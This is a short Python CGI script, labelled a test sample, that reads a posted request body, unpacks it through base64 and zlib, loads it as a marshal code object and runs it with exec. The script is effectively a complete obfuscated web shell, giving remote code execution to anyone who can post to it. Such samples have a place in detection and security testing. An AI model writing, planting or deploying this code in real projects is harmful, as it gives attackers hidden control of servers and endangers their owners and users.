#!/usr/bin/env python3
# test sample: the posted body kept in a variable, unpacked through two encodings, then the code
# object marshal builds from it is run
import sys, zlib, base64 as _b, marshal as _m  # noqa

_k = sys.stdin.read()
print("Content-Type: text/plain\n")
_c = _m.loads(zlib.decompress(_b.b64decode(_k)))
exec(_c)
